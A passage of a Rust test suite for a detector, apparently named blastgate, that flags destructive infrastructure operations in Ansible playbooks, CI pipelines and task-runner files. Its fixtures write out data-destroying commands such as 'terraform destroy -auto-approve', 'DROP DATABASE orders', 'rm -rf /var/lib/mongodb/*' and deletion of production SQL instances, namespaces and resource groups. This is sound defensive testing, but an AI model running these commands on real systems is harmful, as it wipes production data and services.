        assert_eq!(read(&short), Vec::<String>::new(), "{env}");
    }
    // A step as one flow mapping, and a config written in JSON.
    let flow = "steps:\n- {name: gcr.io/cloud-builders/gcloud, args: [sql, instances, delete, orders-prod, --quiet]}\n- {name: gcr.io/cloud-builders/docker, args: [build, .]}\n";
    assert_eq!(read(flow), ["gcloud sql instances delete"]);
    let json = "{\n  \"steps\": [\n    {\"name\": \"gcr.io/cloud-builders/gcloud\", \"args\": [\"sql\", \"instances\", \"delete\", \"orders-prod\"]},\n    {\"name\": \"hashicorp/terraform\", \"args\": [\"destroy\", \"-auto-approve\"], \"env\": [\"TF_WORKSPACE=pr-$_PR_NUMBER\"]},\n    {\"name\": \"ubuntu\", \"script\": \"kubectl delete namespace orders\"}\n  ]\n}\n";
    assert_eq!(read(json), ["Namespace", "gcloud sql instances delete"]);
    // An unclosed list reads nothing and never runs past the step.
    assert_eq!(
        read("steps:\n- name: gcr.io/cloud-builders/gcloud\n  args: ['sql', 'instances',\n"),
        Vec::<String>::new()
    );
}

/// Ansible's tasks destroy what a cloud module is told `state: absent`
/// manages and what a command module's line destroys (a red team's miss:
/// a playbook that deleted the production database counted nothing).
#[test]
fn ansible_tasks_that_destroy_are_read() {
    use blastgate_ingest::git::{ansible_tasks_destroy, is_ansible};
    let read =
        |text: &str| -> Vec<(String, usize)> { ansible_tasks_destroy(text.as_bytes()).unwrap().into_iter().collect() };
    let playbook = "- hosts: localhost\n  gather_facts: false\n  tasks:\n    - name: Drop the orders database\n      amazon.aws.rds_instance:\n        id: orders-prod\n        state: absent\n        skip_final_snapshot: true\n    - name: Remove the namespace\n      kubernetes.core.k8s:\n        kind: Namespace\n        name: orders\n        state: absent\n    - name: Tear down\n      ansible.builtin.shell: |\n        cd infra/prod\n        terraform destroy -auto-approve\n    - community.general.terraform:\n        project_path: infra/prod\n        state: absent\n    - name: Uninstall the database\n      kubernetes.core.helm:\n        name: orders-db\n        release_namespace: data\n        state: absent\n    - command: dropdb orders\n    - name: Old style\n      gcp_sql_instance: name=orders state=absent project=acme\n    - amazon.aws.ec2_instance:\n        instance_ids: [i-0abc]\n        state: terminated\n    - azure.azcollection.azure_rm_postgresqlflexibleserver:\n        resource_group: rg-orders\n        name: orders\n        state: \"{{ 'absent' if teardown else 'present' }}\"\n";
    assert_eq!(
        read(playbook),
        [
            ("Namespace".to_owned(), 1),
            ("amazon.aws.ec2_instance".to_owned(), 1),
            ("amazon.aws.rds_instance".to_owned(), 1),
            ("azure.azcollection.azure_rm_postgresqlflexibleserver".to_owned(), 1),
            ("database".to_owned(), 1),
            ("gcp_sql_instance".to_owned(), 1),
            ("helm uninstall orders-db".to_owned(), 1),
            ("terraform destroy".to_owned(), 2),
        ]
    );
    // Routine objects, present resources, local files, dry runs,
    // short-lived names, facts and printed text destroy nothing.
    let routine = "- name: Old snapshots\n  amazon.aws.rds_instance_snapshot:\n    db_snapshot_identifier: nightly-1\n    state: absent\n- name: The database\n  amazon.aws.rds_instance:\n    id: orders\n    state: present\n- ansible.builtin.file:\n    path: /tmp/orders\n    state: absent\n- name: Dry run\n  amazon.aws.s3_bucket:\n    name: orders-archive\n    state: absent\n  check_mode: true\n- name: Preview\n  amazon.aws.rds_instance:\n    id: orders-pr-12\n    state: absent\n- amazon.aws.ec2_instance_info:\n    filters: {}\n- ansible.builtin.shell: echo terraform destroy\n- amazon.aws.iam_policy:\n    iam_name: deployer\n    state: absent\n- ansible.builtin.apt:\n    name: postgresql\n    state: absent\n";
    assert_eq!(read(routine), []);
    // Another red team's: a table dropped or truncated, a Redis flushed, a
    // MongoDB shell's script, a data folder named through a play's
    // variable; each one's routine use is nothing.
    let data = "- hosts: db\n  vars:\n    pg_data: /var/lib/postgresql/16/main\n    scratch: /tmp/scratch\n  tasks:\n    - community.postgresql.postgresql_table:\n        name: orders\n        state: absent\n    - postgresql_table:\n        name: orders\n        truncate: true\n    - community.general.redis:\n        command: flush\n        flush_mode: all\n    - community.mongodb.mongodb_shell:\n        eval: db.dropDatabase()\n    - ansible.builtin.file:\n        path: \"{{ pg_data }}\"\n        state: absent\n";
    assert_eq!(
        read(data),
        [
            ("database".to_owned(), 2),
            ("database directory /var/lib/postgresql".to_owned(), 1),
            ("mongodb dropDatabase".to_owned(), 1),
            ("redis flushall".to_owned(), 1)
        ]
    );
    let kept = "- hosts: db\n  vars:\n    scratch: /tmp/scratch\n  tasks:\n    - postgresql_table:\n        name: orders\n        columns: id bigserial primary key\n    - community.general.redis:\n        command: config\n        name: maxmemory\n        value: 1gb\n    - community.mongodb.mongodb_shell:\n        eval: db.stats()\n    - ansible.builtin.file:\n        path: \"{{ scratch }}\"\n        state: absent\n";
    assert_eq!(read(kept), []);
    // A red team's: names with a marker in a part of them that is not a
    // name, templates, flow mappings, helm's own parameter names, scripts,
    // PowerShell, SQL, Azure's joined nouns and a tool by a template.
    let more = "- amazon.aws.ec2_instance:\n    name: orders-db-prod\n    key_name: ci-deploy\n    state: absent\n- google.cloud.gcp_sql_instance:\n    name: orders-prod\n    settings:\n      ip_configuration:\n        authorized_networks:\n          - name: dev-vpn\n    state: absent\n- amazon.aws.rds_instance:\n    db_instance_identifier: \"orders-{{ env | default('dev') }}\"\n    state: absent\n- community.aws.dynamodb_table: {name: orders, region: us-east-1, state: absent}\n- kubernetes.core.helm:\n    release_name: orders-postgresql\n    release_namespace: data\n    release_state: absent\n- ansible.windows.win_powershell:\n    script: Remove-AzResourceGroup -Name rg-orders-prod -Force\n- community.postgresql.postgresql_query:\n    db: postgres\n    query: DROP DATABASE orders\n- azure.azcollection.azure_rm_rediscache:\n    name: orders\n    resource_group: rg-orders\n    state: absent\n- ansible.builtin.command: \"{{ terraform_bin }} destroy -auto-approve\"\n";
    assert_eq!(
        read(more),
        [
            ("Remove-AzResourceGroup".to_owned(), 1),
            ("amazon.aws.ec2_instance".to_owned(), 1),
            ("amazon.aws.rds_instance".to_owned(), 1),
            ("azure.azcollection.azure_rm_rediscache".to_owned(), 1),
            ("community.aws.dynamodb_table".to_owned(), 1),
            ("database".to_owned(), 1),
            ("google.cloud.gcp_sql_instance".to_owned(), 1),
            ("helm uninstall orders-postgresql".to_owned(), 1),
            ("terraform destroy".to_owned(), 1),
        ]
    );
    let quiet = "- amazon.aws.rds_instance:\n    id: orders\n    state: \"present\"  # set to absent to tear down\n- community.general.terraform:\n    project_path: infra\n    workspace: \"pr-{{ pr_number }}\"\n    state: absent\n- ansible.builtin.shell: terraform destroy -auto-approve\n  environment:\n    TF_WORKSPACE: \"pr-{{ pr_number }}\"\n- google.cloud.gcp_sql_user:\n    name: reporting\n    instance: orders\n    state: absent\n- google.cloud.gcp_storage_bucket_access_control:\n    bucket: orders\n    entity: allUsers\n    state: absent\n";
    assert_eq!(read(quiet), []);
    // The file's `vars:` are read into names and states; a Docker
    // container holds no data.
    let vars = "- hosts: localhost\n  vars:\n    preview_db_id: \"orders-pr-{{ pr_number }}\"\n    ledger_state: absent\n  tasks:\n    - amazon.aws.rds_instance:\n        id: \"{{ preview_db_id }}\"\n        state: absent\n    - amazon.aws.rds_instance:\n        id: ledger-prod\n        state: \"{{ ledger_state }}\"\n    - community.docker.docker_container:\n        name: orders-api-old\n        state: absent\n";
    assert_eq!(read(vars), [("amazon.aws.rds_instance".to_owned(), 1)]);
    assert_eq!(ansible_tasks_destroy(b"\0"), None);
    // Where Ansible keeps tasks.
    for path in
        ["ansible/teardown.yml", "playbooks/db.yaml", "roles/db/tasks/main.yml", "site.yml", "ops/playbook-prod.yml"]
    {
        assert!(is_ansible(path), "{path}");
    }
    for path in [
        "ansible/roles/db/templates/x.yml",
        "ansible/group_vars/all.yml",
        "roles/db/defaults/main.yml",
        "k8s/app.yaml",
        "ansible/hosts",
    ] {
        assert!(!is_ansible(path), "{path}");
    }
}

/// Ansible's other spellings of a task (a red team's): a dash apart from
/// its content, a free form on the lines below, `action:` and
/// `local_action:`, the task's `args:`, a merge key, flow `vars:` and
/// `set_fact:`. Routine queries, templates, access and placement destroy
/// nothing.
#[test]
fn ansible_tasks_in_other_spellings_are_read() {
    use blastgate_ingest::git::{ansible_like_in_patch, ansible_tasks_destroy};
    let read = |text: &str| -> Vec<String> { ansible_tasks_destroy(text.as_bytes()).unwrap().into_keys().collect() };
    let cases: &[(&str, &[&str])] = &[
        (
            "-   name: Drop\n    amazon.aws.rds_instance:\n      id: orders\n      state: absent\n",
            &["amazon.aws.rds_instance"],
        ),
        (
            "- name: Tear down\n  ansible.builtin.shell:\n    terraform destroy\n    -auto-approve\n",
            &["terraform destroy"],
        ),
        ("- local_action: command terraform destroy -auto-approve\n", &["terraform destroy"]),
        // A datastore's files removed (red team 11); other files are not.
        (
            "- name: Wipe\n  ansible.builtin.file:\n    path: /var/lib/postgresql/16/main\n    state: absent\n",
            &["database directory /var/lib/postgresql"],
        ),
        ("- file: path=/var/lib/mysql state=absent\n", &["database directory /var/lib/mysql"]),
        ("- file: path=/tmp/build state=absent\n", &[]),
        ("- file:\n    path: /var/lib/mysql\n    state: directory\n", &[]),
        ("- shell: rm -rf /var/lib/mongodb/*\n", &["database directory /var/lib/mongodb"]),
        ("- action: amazon.aws.rds_instance id=orders state=absent\n", &["amazon.aws.rds_instance"]),
        (
            "- local_action:\n    module: amazon.aws.rds_instance\n    id: orders\n    state: absent\n",
            &["amazon.aws.rds_instance"],
        ),
        ("- amazon.aws.rds_instance:\n  args:\n    id: orders\n    state: absent\n", &["amazon.aws.rds_instance"]),
        ("- amazon.aws.rds_instance:\n  args: {id: orders, state: absent}\n", &["amazon.aws.rds_instance"]),
        (
            "x-db: &db\n  id: orders\n  state: absent\ntasks:\n  - amazon.aws.rds_instance:\n      <<: *db\n",
            &["amazon.aws.rds_instance"],
        ),
        (
            "- hosts: db\n  vars: {db_state: absent}\n  tasks:\n    - amazon.aws.rds_instance:\n        id: orders\n        state: \"{{ db_state }}\"\n",
            &["amazon.aws.rds_instance"],
        ),
        (
            "- set_fact:\n    db_state: absent\n- amazon.aws.rds_instance:\n    id: orders\n    state: \"{{ db_state }}\"\n",
            &["amazon.aws.rds_instance"],
        ),
        ("- community.postgresql.postgresql_query:\n    query: DELETE FROM orders\n", &["database"]),
        // (A manifest read from a file: a generic manifest, which counts
        // as holding data.)
        ("- kubernetes.core.k8s:\n    src: manifests/db.yaml\n    state: absent\n", &["kubernetes_manifest"]),
        ("- community.postgresql.postgresql_query:\n    query: TRUNCATE orders\n", &["database"]),
        // (Routine: some rows, an update, a template, access, placement;
        // a short-lived name by `args:` or a merge key.)
        ("- community.postgresql.postgresql_query:\n    query: DELETE FROM sessions WHERE expires < now()\n", &[]),
        ("- community.mysql.mysql_query:\n    query: UPDATE orders SET state = 'done'\n", &[]),
        ("- google.cloud.gcp_compute_instance_template:\n    name: web\n    state: absent\n", &[]),
        ("- amazon.aws.iam_group:\n    name: deployers\n    state: absent\n", &[]),
        ("- amazon.aws.ec2_placement_group:\n    name: web\n    state: absent\n", &[]),
        ("- amazon.aws.rds_instance:\n  args:\n    id: orders-pr-12\n    state: absent\n", &[]),
        ("x-db: &db\n  id: orders-pr-12\n  state: absent\ntasks:\n  - amazon.aws.rds_instance:\n      <<: *db\n", &[]),
        ("- name: Tear down\n  ansible.builtin.shell:\n    cmd: echo done\n", &[]),
    ];
    for (text, want) in cases {
        assert_eq!(read(text), *want, "{text}");
    }
    // A playbook edited only in a module's `id:` or a task's
    // `check_mode:` is sniffed by the module beside the edit.
    let patch = "diff --git a/deploy/db.yml b/deploy/db.yml\n--- a/deploy/db.yml\n+++ b/deploy/db.yml\n@@ -1,4 +1,4 @@\n - amazon.aws.rds_instance:\n-    id: orders-pr-12\n+    id: orders\n     state: absent\ndiff --git a/k8s/app.yaml b/k8s/app.yaml\n--- a/k8s/app.yaml\n+++ b/k8s/app.yaml\n@@ -1,3 +1,3 @@\n - name: app\n-  image: app:1\n+  image: app:2\n   command: [serve]\n";
    assert_eq!(ansible_like_in_patch(patch.as_bytes()).into_iter().collect::<Vec<_>>(), ["deploy/db.yml"]);
}

/// A file of tasks of 1 MiB is read in bounded time whatever it repeats:
/// `action:` lines that look below for `module:`, merge keys (at most 4
/// a task), anchors, `args:`, and dashes far from their content.
#[test]
fn ansible_tasks_are_read_in_bounded_time() {
    use blastgate_ingest::git::{MAX_EMPTIED_TEXT, ansible_tasks_destroy};
    let merges = format!("- amazon.aws.rds_instance:\n{}", "    <<: *a\n".repeat(200)).repeat(400);
    let cases = [
        "- local_action:\n".repeat(MAX_EMPTIED_TEXT / 17),
        format!("x: &a\n{}{merges}", "  k: v\n".repeat(200)),
        (0..MAX_EMPTIED_TEXT / 30).map(|i| format!("a{i}: &n{i}\n")).collect::<String>(),
        "- amazon.aws.rds_instance:\n  args:\n".repeat(MAX_EMPTIED_TEXT / 40),
        "-          amazon.aws.rds_instance:\n".repeat(MAX_EMPTIED_TEXT / 40),
    ];
    for text in cases {
        assert_eq!(ansible_tasks_destroy(text.as_bytes()).map(|m| m.len()), Some(0));
    }
}

/// A CI job for a short-lived environment is told by its name, condition,
/// environment or workspace, not by whatever else its steps say: a
/// production job that runs tests and then destroys still destroys.
#[test]
fn pipeline_jobs_for_short_lived_environments_destroy_nothing_lasting() {
    use blastgate_ingest::git::pipeline_destroys;
    let actions = b"jobs:\n  prod:\n    if: github.ref == 'refs/heads/main'\n    env:\n      NODE_ENV: test\n    steps:\n      - name: run tests\n        run: make test\n      - run: |\n          terraform -chdir=infra/prod \\\n            destroy -auto-approve\n  cleanup-preview:\n    steps:\n      - run: kubectl delete pvc data\n";
    let found = pipeline_destroys(actions).unwrap();
    assert_eq!(found.into_iter().collect::<Vec<_>>(), ["terraform destroy"]);
    let gitlab = b"stop_review:\n  script:\n    - helm uninstall orders-db\n  environment:\n    name: review/$CI_COMMIT_REF_SLUG\n    action: stop\ndestroy_prod:\n  script:\n    - helm uninstall orders-db\n  environment:\n    name: production\n";
    assert_eq!(pipeline_destroys(gitlab).unwrap().into_iter().collect::<Vec<_>>(), ["helm uninstall orders-db"]);
    assert_eq!(pipeline_destroys(b"\0"), None);
    // Only an environment's name, address or action marks its job: a
    // step, artifact, parameter or variable named by a CI expression does
    // not.
    let named = [
        "deploy:\n  steps:\n    - name: Show BUILD_ID\n      run: terraform destroy -auto-approve\n",
        "teardown:\n  script:\n    - helm uninstall orders-db\n  artifacts:\n    name: logs-$CI_COMMIT_REF_NAME\n",
        "spec:\n  params:\n    - name: BUILD_ID\n  steps:\n    - image: alpine/helm\n      script: helm uninstall orders-db\n",
        "jobs:\n  prod:\n    env:\n      - name: GITHUB_HEAD_REF\n        value: main\n    steps:\n      - run: helm uninstall orders-db\n",
        "jobs:\n  prod:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          url: https://example.com/pr-1\n      - run: helm uninstall orders-db\n",
    ];
    for text in named {
        assert!(!pipeline_destroys(text.as_bytes()).unwrap().is_empty(), "{text}");
    }
    let review = "stop:\n  script:\n    - helm uninstall orders-db\n  environment:\n    url: https://$CI_COMMIT_REF_SLUG.example.com\n";
    assert!(pipeline_destroys(review.as_bytes()).unwrap().is_empty());
}

/// A pipeline of 1 MiB of destroying steps is read in bounded time: each
/// step's inputs are looked for at most `MAX_STEP_LINES` lines away, a
/// step longer than that counts as destroying (fail closed), and each
/// job's settings are read once.
#[test]
fn a_pipeline_of_many_steps_is_read_in_bounded_time() {
    use blastgate_ingest::git::{MAX_EMPTIED_TEXT, pipeline_destroys, pipeline_steps_destroy};
    // Steps of one key each, all at one column: none has inputs.
    let flat = "      uses: pulumi/actions@v5\n".repeat(MAX_EMPTIED_TEXT / 32);
    let steps = pipeline_steps_destroy(flat.as_bytes()).unwrap();
    assert_eq!(steps.keys().collect::<Vec<_>>(), ["uses pulumi/actions"]);
    // Lists of templates that are themselves items.
    let lists = "- extends:\n".repeat(MAX_EMPTIED_TEXT / 12);
    assert!(pipeline_steps_destroy(lists.as_bytes()).unwrap().is_empty());
    // One job of many commands, its settings read once.
    let job = format!(
        "deploy:\n  variables:\n    DISABLE_DATABASE_ENVIRONMENT_CHECK: 1\n  script:\n{}",
        "    - bin/rails db:reset\n".repeat(MAX_EMPTIED_TEXT / 26)
    );
    assert_eq!(pipeline_destroys(job.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["database"]);
    // A step whose inputs are far from its key destroys (fail closed).
    let far = format!(
        "steps:\n  - uses: pulumi/actions@v5\n{}    with:\n      command: up\n",
        "    # padding\n    x: 1\n".repeat(150)
    );
    assert_eq!(pipeline_steps_destroy(far.as_bytes()).unwrap().keys().collect::<Vec<_>>(), ["uses pulumi/actions"]);
    // Container steps whose argument lists never close, flat and nested
    // (each step's window then holds the rest).
    let open =
        "- name: gcr.io/cloud-builders/gcloud\n  args: ['sql', 'instances', 'delete',\n".repeat(MAX_EMPTIED_TEXT / 80);
    assert!(pipeline_steps_destroy(open.as_bytes()).unwrap().is_empty());
    let nested: String = (0..3000)
        .map(|i| {
            format!(
                "{}- image: hashicorp/terraform\n{}  args: [destroy, '{}'\n",
                " ".repeat(i % 150),
                " ".repeat(i % 150),
                "x".repeat(100)
            )
        })
        .collect();
    assert!(pipeline_steps_destroy(nested.as_bytes()).unwrap().is_empty());
    // One command continued over the whole file (joined 16 KiB at a
    // time), still read where it destroys.
    let continued =
        format!("script:\n  - terraform destroy \\\n{}", "      -var x=1 \\\n".repeat(MAX_EMPTIED_TEXT / 18));
    assert_eq!(pipeline_destroys(continued.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["terraform destroy"]);
}

/// Tasks called by name are read as calls (the facade reads what they
/// run): the runner, where its file is and the task, past the runner's
/// options; not dry runs, a runner's own commands, or keys named like a
/// runner. A local action or reusable workflow a step or job `uses:` is
/// a call of all of it.
#[test]
fn task_calls_are_read_with_their_files() {
    use blastgate_ingest::git::{TaskCall, destructive_commands};
    let read = |path: &str, line: &str| -> Vec<String> {
        let patch = format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1 @@\n+{line}\n");
        destructive_commands(patch.as_bytes(), |_| true).remove(path).unwrap_or_default()
    };
    let call = |kind: &str| TaskCall::from_kind(kind).map(|c| format!("{:?} {} {}", c.runner, c.file, c.target));
    let cases: &[(&str, &[&str])] = &[
        ("make destroy", &["Make ./ destroy"]),
        ("make -C infra/prod destroy apply", &["Make infra/prod/ apply", "Make infra/prod/ destroy"]),
        ("make -Cinfra -f deploy.mk nuke", &["Make infra/deploy.mk nuke"]),
        ("gmake --directory=infra -j 4 destroy ENV=prod", &["Make infra/ destroy"]),
        ("cd infra && $(MAKE) destroy", &["Make infra/ destroy"]),
        ("make -n destroy", &[]),
        ("make destroy-preview", &[]),
        ("npm run teardown -- --force", &["PackageScript ./ teardown"]),
        ("npm --prefix infra run-script nuke", &["PackageScript infra/ nuke"]),
        ("yarn --cwd infra teardown", &["PackageScript infra/ teardown"]),
        ("pnpm -C infra run nuke", &["PackageScript infra/ nuke"]),
        ("bun run nuke", &["PackageScript ./ nuke"]),
        ("npm start", &["PackageScript ./ start"]),
        // (A task named for tests is a short-lived environment's.)
        ("npm test", &[]),
        ("npm install", &[]),
        ("npm ci", &[]),
        ("yarn install --frozen-lockfile", &[]),
        // (A package by its name, or every package: looked for anywhere.)
        ("pnpm --filter infra nuke", &["PackageScript **/infra/ nuke"]),
        ("yarn workspace infra run destroy", &["PackageScript **/infra/ destroy"]),
        ("npm run destroy -w infra", &["PackageScript **/infra/ destroy"]),
        ("npm run destroy --workspace=./packages/infra/", &["PackageScript **/infra/ destroy"]),
        ("pnpm -r run destroy", &["PackageScript **/ destroy"]),
        ("pnpm deploy --filter web out", &[]),
        ("npx lerna run destroy --scope infra", &["PackageScript **/infra/ destroy"]),
        ("npx turbo run destroy", &["PackageScript **/ destroy"]),
        ("npx nx run infra:destroy", &["PackageScript **/infra/ destroy"]),
        ("nx run-many -t destroy", &["PackageScript **/ destroy"]),
        // Script runners name scripts.
        ("run-s build test destroy:*", &["PackageScript ./ build", "PackageScript ./ destroy:*"]),
        ("concurrently -n a,b \"npm:destroy-stack\" \"echo hi\"", &["PackageScript ./ destroy-stack"]),
        ("yarn remove lodash", &[]),
        // Scripts run by their paths.
        ("./scripts/recreate.sh", &["Script scripts/recreate.sh sh:"]),
        ("bash -euo pipefail scripts/teardown", &["Script scripts/teardown sh:"]),
        ("cd infra && ./nuke.py --yes", &["Script infra/nuke.py py"]),
        ("./scripts/tf.sh plan -out=x", &["Script scripts/tf.sh sh:plan"]),
        ("@./scripts/teardown.sh", &["Script scripts/teardown.sh sh:"]),
        ("\"$GITHUB_WORKSPACE/scripts/teardown.sh\"", &["Script scripts/teardown.sh sh"]),
        ("$CI_PROJECT_DIR/scripts/teardown.sh", &["Script scripts/teardown.sh sh:"]),
        ("\"$SCRIPT_DIR/reset-db.sh\" $DB", &["Script reset-db.sh sh"]),
        (".\\scripts\\teardown.ps1", &["Script scripts/teardown.ps1 ps1:"]),
        ("deno run -A scripts/reset.ts", &["Script scripts/reset.ts js:"]),
        ("bash -n scripts/teardown.sh", &[]),
        ("@cd infra && ./destroy.sh", &["Script infra/destroy.sh sh:"]),
        ("-./scripts/teardown.sh", &["Script scripts/teardown.sh sh:"]),
        ("source \"$HERE/reset-db.sh\"", &["Script reset-db.sh sh"]),
        ("pushd infra && ./destroy.sh && popd", &["Script infra/destroy.sh sh:"]),
        ("./scripts/teardown.sh --help", &[]),
        ("python3 tools/cleanup.py --all", &["Script tools/cleanup.py py"]),
        ("node scripts/teardown.mjs", &["Script scripts/teardown.mjs js:"]),
        ("pwsh -File ./ops/Remove-Stack.ps1", &["Script ops/Remove-Stack.ps1 ps1:"]),
        ("bin/teardown", &["Script bin/teardown -:"]),
        ("./scripts/teardown-preview.sh", &[]),
        ("./scripts/teardown.sh pr-12", &[]),
        ("bash -c 'echo hi'", &[]),
        ("python -m pytest", &[]),
        ("python -m scripts.cleanup --all", &["Script scripts/cleanup.py py"]),
        ("python -m scripts.cleanup pr-12", &[]),
        ("pwsh -NoProfile -Command ./scripts/teardown.ps1", &["Script scripts/teardown.ps1 ps1:"]),
        ("python manage.py migrate", &[]),
        ("/usr/local/bin/cleanup.sh", &[]),
        ("./app.jar", &[]),
        ("pnpm add -D typescript", &[]),
        ("bun build ./index.ts", &[]),
        // A folder is no environment; a variable set for the run may be.
        ("make -C ci destroy", &["Make ci/ destroy"]),
        ("make destroy ENV=pr-12", &[]),
        ("cd infra && make destroy", &["Make infra/ destroy"]),
        ("- run: cd infra && make destroy", &["Make infra/ destroy"]),
        ("cd $GITHUB_WORKSPACE/infra && make destroy", &["Make infra/ destroy"]),
        ("make -C ${{ github.workspace }}/infra destroy", &["Make infra/ destroy"]),
        ("cd infra; cd prod && $(MAKE) -f deploy.mk nuke", &["Make infra/prod/deploy.mk nuke"]),
        ("just nuke", &["Just ./ nuke"]),
        ("just --justfile ops/justfile nuke prod", &["Just ops/justfile nuke"]),
        ("just ops/nuke", &["Just ops/ nuke"]),
        ("just --dry-run nuke", &[]),
        ("task -d ops destroy drain", &["Task ops/ destroy", "Task ops/ drain"]),
        ("task --taskfile ops/Taskfile.yml destroy", &["Task ops/Taskfile.yml destroy"]),
        ("- task: TerraformTaskV4@4", &[]),
        ("- uses: ./.github/actions/teardown", &["Action .github/actions/teardown/ -"]),
        ("uses: './.github/workflows/destroy.yml' # reused", &["Action .github/workflows/destroy.yml -"]),
        ("- uses: ./.github/actions/destroy-preview", &[]),
        ("- uses: actions/checkout@v4", &[]),
        ("- uses: ./.github/actions/${{ inputs.name }}", &[]),
        ("echo make destroy", &[]),
        ("make $(TARGET)", &[]),
    ];
    for (line, expected) in cases {
        let found: Vec<String> = read("ops/x.sh", line).iter().filter_map(|k| call(k)).collect();
        let plain: Vec<String> =
            read("ops/x.sh", line).into_iter().filter(|k| TaskCall::from_kind(k).is_none()).collect();
        assert_eq!(found, *expected, "{line}");
        assert!(plain.is_empty(), "{line}: {plain:?}");
    }
    // A package's program run by its manager is that program, no call.
    assert_eq!(read("ops/x.sh", "npx cdk destroy --force"), ["cdk destroy"]);
    assert_eq!(read("ops/x.sh", "yarn cdk destroy --force"), ["cdk destroy"]);
    // The kind of a call whose parts do not fit is not made.
    let long = TaskCall { runner: blastgate_ingest::git::TaskRunner::Make, file: "a/".repeat(200), target: "x".into() };
    assert_eq!(long.kind(), None);
    assert_eq!(long.plain(), "make x");
}

/// What a task runs, read from its file: a Makefile's target with its
/// prerequisites, pattern rules and variables; a justfile's recipe with
/// its dependencies and aliases; a Taskfile's task with its deps and the
/// tasks it calls; a package's script with its `pre` and `post` scripts.
/// Calls of other tasks come back as calls; a file past the bounds, or
/// not JSON or YAML where it must be, is `None`.
#[test]
fn task_files_are_read_for_what_a_task_runs() {
    use blastgate_ingest::git::{MAX_TASKS_FOLLOWED, TaskRunner, task_destroys};
    let make = |text: &str, target: &str| task_destroys(TaskRunner::Make, text.as_bytes(), target);
    let makefile = "\
# Infrastructure.
TERRAFORM := terraform
STACK = orders
export AWS_REGION = eu-west-1
.PHONY: all destroy
all: plan

plan:
\t$(TERRAFORM) plan

destroy: confirm
\t@cd infra/$(STACK) && \\
\t  $(TERRAFORM) destroy -auto-approve
confirm: ; @echo sure
recreate: | destroy
\t$(MAKE) all
define HELP
destroy:
\tkubectl delete namespace orders
endef
down-%:
\tkubectl delete $* orders
tf-%:
\t$(TERRAFORM) $@
reset:
\t$(MAKE) -C db drop
";
    assert_eq!(make(makefile, "destroy").unwrap(), ["terraform destroy"]);
    assert_eq!(make(makefile, "recreate").unwrap(), ["runs task make ./ all", "terraform destroy"]);
    assert_eq!(make(makefile, "down-statefulset").unwrap(), ["StatefulSet"]);
    assert_eq!(make(makefile, "down-pods").unwrap(), Vec::<String>::new());
    assert!(make(makefile, "plan").unwrap().is_empty());
    assert!(make(makefile, "all").unwrap().is_empty());
    assert!(make(makefile, "missing").unwrap().is_empty());
    assert_eq!(make(makefile, "reset").unwrap(), ["runs task make db/ drop"]);
    // (`tf-destroy` runs `terraform tf-destroy`: not a destroy.)
    assert!(make(makefile, "tf-destroy").unwrap().is_empty());
    // A chain longer than the bound.
    let chain: String = (0..=MAX_TASKS_FOLLOWED).map(|i| format!("t{i}: t{}\n\techo {i}\n", i + 1)).collect();
    assert_eq!(make(&chain, "t0"), None);
    assert!(make(&chain, &format!("t{}", MAX_TASKS_FOLLOWED - 2)).unwrap().is_empty());
    assert_eq!(task_destroys(TaskRunner::Make, b"x:\n\0", "x"), None);
    // (Published Makefiles, a red team: a value's trailing comment, a value
    // a command makes, and a prerequisite list longer than 64 files.)
    let cdk = "CDK := cdk  # Use system CDK\ndestroy: check-env\n\t@$(CDK) destroy --app $(CDK_APP)\ncheck-env:\n\t@echo ok\n";
    assert_eq!(make(cdk, "destroy").unwrap(), ["cdk destroy"]);
    let quiz = "PROJECT_ID ?= $(shell sed -n 1p terraform.tfvars 2>/dev/null | head -n1)\ndestroy-safe:\n\tterraform destroy -auto-approve -target=google_compute_network.vpc\ndestroy-all:\n\t$(MAKE) destroy-safe PROJECT_ID=$(PROJECT_ID)\n";
    assert_eq!(make(quiz, "destroy-all").unwrap(), ["runs task make ./ destroy-safe"]);
    let objects: String = (0..80).map(|i| format!("src/f{i}.o ")).collect();
    let build = format!("all: app\napp: {objects}\n\tcc -o app $^\n%.o: %.c\n\tcc -c $< -o $@\n");
    assert!(make(&build, "all").unwrap().is_empty());

    let just = "\
set shell := [\"bash\", \"-c\"]
stack := \"acme/prod\"
alias n := nuke

# Removes everything.
[confirm]
@nuke env='prod': (stop env) && notify
    pulumi destroy --yes --stack {{stack}}

stop env:
    kubectl --context {{env}} delete deployment web

notify:
    echo done
";
    assert_eq!(task_destroys(TaskRunner::Just, just.as_bytes(), "n").unwrap(), ["Deployment", "pulumi destroy"]);
    assert!(task_destroys(TaskRunner::Just, just.as_bytes(), "notify").unwrap().is_empty());

    let taskfile = "\
version: '3'
vars:
  STACK: prod
tasks:
  destroy:
    deps: [drain]
    cmds:
      - task: wipe
      - cmd: echo done
  drain: kubectl delete statefulset ledger
  wipe:
    cmds:
      - terraform -chdir=envs/{{.STACK}} destroy -auto-approve
  lint: [tflint, terraform fmt -check]
  recreate:
    aliases: [redo]
    cmds:
      - defer: {task: cleanup}
      - echo recreating
  cleanup:
    cmds:
      - defer: kubectl delete pvc data-ledger-0
";
    let task = |target: &str| task_destroys(TaskRunner::Task, taskfile.as_bytes(), target);
    assert_eq!(task("destroy").unwrap(), ["StatefulSet", "terraform destroy"]);
    assert!(task("lint").unwrap().is_empty());
    // (An alias, and what `defer:` runs, a task or a command.)
    assert_eq!(task("redo").unwrap(), ["PersistentVolumeClaim"]);
    assert_eq!(task_destroys(TaskRunner::Task, b"tasks: [unclosed", "x"), None);

    let package = br#"{
  "name": "infra",
  "scripts": {
    "preteardown": "echo about to tear down",
    "teardown": "sst remove --stage production",
    "postteardown": "yarn notify",
    "notify": "node notify.js",
    "description": "terraform destroy"
  }
}"#;
    let script = |target: &str| task_destroys(TaskRunner::PackageScript, package, target);
    assert_eq!(script("teardown").unwrap(), ["runs task package.json ./ notify", "sst remove"]);
    // (`run-s destroy:*` runs every script the pattern names.)
    let stacks = br#"{"scripts": {"destroy:api": "cdk destroy api", "destroy:db": "terraform destroy", "deploy": "cdk deploy"}}"#;
    assert_eq!(
        task_destroys(TaskRunner::PackageScript, stacks, "destroy:*").unwrap(),
        ["cdk destroy", "terraform destroy"]
    );
    // (A script it runs by its path is a call the facade follows.)
    assert_eq!(script("notify").unwrap(), ["runs task script notify.js js:"]);
    assert_eq!(task_destroys(TaskRunner::PackageScript, b"{\"scripts\": ", "x"), None);
}

/// The destructive commands `destructive_commands` reads in a one-hunk
